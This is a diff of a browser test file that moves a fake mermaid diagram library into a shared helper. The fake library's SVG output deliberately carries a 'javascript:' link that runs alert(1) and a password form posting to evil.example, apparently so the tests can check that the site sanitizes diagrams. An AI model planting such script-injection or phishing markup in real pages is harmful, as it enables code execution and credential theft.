@@ -3,6 +3,7 @@ import os from 'node:os';
 import path from 'node:path';
 import type {Browser, Page} from 'playwright-core';
 import {afterAll, beforeAll, describe, expect, test} from 'vitest';
+import {mermaidPackage} from '../mermaidPackage.ts';
 import {expectAccessible, live, newPage, type RunningSite, startSite} from './harness.ts';
 import {leaveBrowser, openBrowser} from './sharedBrowser.ts';
 
@@ -182,51 +183,26 @@ describe('videos', () => {
   });
 });
 
-/** Draws as the library does: a box with a drawing, styles as text, and the text of it all. It keeps the settings of a diagram until it is reset. */
-const LIBRARY = `let settings = '';
-export default {
-  mermaidAPI: {reset: () => { settings = ''; }},
-  initialize: ({themeVariables}) => {
-    if (settings.includes('no color')) throw new Error('no color');
-    window.themeVariables = themeVariables;
-  },
-  async render(id, code, box) {
-    settings = code;
-    if (code.includes('no color')) throw new Error('no color');
-    box.innerHTML = '';
-    window.roomForDrawing = box.clientWidth;
-    const div = box.appendChild(document.createElement('div'));
-    div.setAttribute('id', 'd' + id);
-    const svg = div.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
-    svg.setAttribute('id', id);
-    svg.setAttribute('style', 'max-width: 321px');
-    const style = document.createElement('style');
-    style.innerHTML = '#' + id + ' text { fill: rgb(1, 2, 3); }';
-    svg.insertBefore(style, svg.firstChild);
-    svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'text')).textContent = code.split('\\n')[0];
-    const link = svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'a'));
+const MERMAID = mermaidPackage(
+  'text { fill: rgb(1, 2, 3); }',
+  `svg.appendChild(element('text')).textContent = code.split('\\n')[0];
+    const link = svg.appendChild(element('a'));
     link.setAttribute('xlink:href', 'java\\tscript:alert(1)');
     link.setAttribute('target', '_top');
-    svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'foreignObject')).innerHTML =
+    svg.appendChild(element('foreignObject')).innerHTML =
       '<form action="https://evil.example">Pass <button>word</button><input><select></select><textarea></textarea></form>';
     const icon = '<rect class="link" style="fill: rgb(4, 5, 6); mix-blend-mode: multiply" stroke="#444444" width="9" height="9"></rect>';
     const read = new DOMParser().parseFromString(icon, 'text/html').body.innerHTML;
-    svg.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'g')).innerHTML = read;
-    return {svg: div.innerHTML};
-  },
-};
-`;
+    svg.appendChild(element('g')).innerHTML = read;`,
+);
 
 describe('diagrams of kinds that only a browser draws', () => {
   let site: RunningSite;
   beforeAll(async () => {
-    const library = path.join(work, 'diagrams/node_modules/mermaid');
-    fs.mkdirSync(library, {recursive: true});
-    fs.writeFileSync(
-      path.join(library, 'package.json'),
-      '{"name": "mermaid", "type": "module", "exports": "./index.js"}',
-    );
-    fs.writeFileSync(path.join(library, 'index.js'), LIBRARY);
+    for (const [file, text] of Object.entries(MERMAID)) {
+      fs.mkdirSync(path.dirname(path.join(work, 'diagrams', file)), {recursive: true});
+      fs.writeFileSync(path.join(work, 'diagrams', file), text);
+    }
     fs.mkdirSync(path.join(work, 'diagrams/docs'));
     fs.writeFileSync(
       path.join(work, 'diagrams/docs/plan.md'),
